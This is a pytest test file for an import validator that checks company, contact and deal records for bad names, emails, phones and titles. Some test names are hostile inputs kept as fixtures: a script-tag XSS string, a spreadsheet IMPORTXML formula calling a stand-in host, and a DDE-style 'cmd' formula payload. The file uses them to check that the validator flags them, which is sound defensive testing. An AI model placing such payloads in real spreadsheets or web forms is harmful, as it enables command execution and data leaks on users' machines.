import pytest

from tests.rules.tables import codes, draft

CONTACT = {"First": "first_name", "Last": "last_name", "E-mail": "email", "Phone": "phone"}


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("Acme", []),
        ("Smith, Jones & Co. (UK) Ltd.", []),
        ("C++ Builders; Hamburg", []),
        ("A < B > C", []),
        (" Côte Ceramics Oy\n", ["blanks_around"]),
        ("Ni\0mbus\0", ["nul"]),
        (" Ni\0mbus", ["nul", "blanks_around"]),
        ("Cedar <b>VIP</b>", ["html"]),
        ("x <script>alert('x')</script>", ["html"]),
        ("Nimbus 🚀✨", ["emoji"]),
        ('=IMPORTXML("http://bad.example","//a") Östra', ["formula_text"]),
        ("-2+3+cmd|' /C calc'!A0 Lindqvist", ["formula_text"]),
        ("@SUM(1+1) x", ["formula_text"]),
        ("+49 30 23125446", []),
        ('Rapid Farms, "Timber"; Sails|\tPaper', ["delimiters"]),
        ("x" * 256, ["overlong"]),
    ],
)
def test_what_a_name_hides(name, found):
    assert codes(draft("companies", {"Name": "name"}, name)) == found


def test_a_company_without_a_name_is_called_by_its_domain():
    found = draft("companies", {"Name": "name", "Site": "website"}, "", "http://www.acme.example/en")
    assert found.values["name"] == "acme.example"
    assert [(issue.code, issue.severity) for issue in found.issues] == [("no_name_has_domain", "warn")]


@pytest.mark.parametrize("site", ["", "gmail.com", "n/a"])
def test_a_company_without_name_and_domain_is_rejected(site):
    found = draft("companies", {"Name": "name", "Site": "website"}, " ", site)
    assert [(issue.code, issue.severity, issue.field) for issue in found.issues] == [("no_name", "reject", "name")]


def test_a_contact_without_a_name_is_called_by_its_address():
    found = draft("contacts", CONTACT, "", "", "o.dell@firm.example", "")
    assert found.values["name"] == "o.dell@firm.example"
    assert [(issue.code, issue.severity, issue.field) for issue in found.issues] == [("no_name_has_email", "warn", "last_name")]


def test_a_contact_without_name_and_address_is_rejected_once():
    found = draft("contacts", CONTACT, "", "", "", "030 23125446")
    assert [(issue.code, issue.severity) for issue in found.issues] == [("no_name", "reject")]


def test_one_half_of_a_name_is_enough():
    assert codes(draft("contacts", CONTACT, "", "Bell", "a@x.example", "")) == []


def test_a_missing_address_is_flagged_only_where_the_table_has_such_a_column():
    assert codes(draft("contacts", CONTACT, "Ann", "Bell", " ", "")) == ["no_email"]
    assert codes(draft("contacts", {"Last": "last_name"}, "Bell")) == []


def test_bad_values_are_flagged_with_what_stood_there():
    found = draft("contacts", CONTACT, "Ann", "Bell", "x@firm", "ask reception")
    assert [(issue.code, issue.field, issue.value) for issue in found.issues] == [
        ("invalid_email", "email", "x@firm"),
        ("bad_phone", "phone", "ask reception"),
    ]


def test_an_overlong_name_is_cut_and_the_longer_part_named():
    found = draft("contacts", CONTACT, "Ann", "and partners " * 30, "a@x.example", "")
    assert len(found.values["name"]) <= 255
    assert [(issue.code, issue.field) for issue in found.issues if issue.code == "overlong"] == [("overlong", "last_name")]


def test_a_deal_without_a_title_must_be_decided():
    found = draft("deals", {"Title": "title"}, "")
    assert [(issue.code, issue.severity) for issue in found.issues] == [("no_title", "decide")]
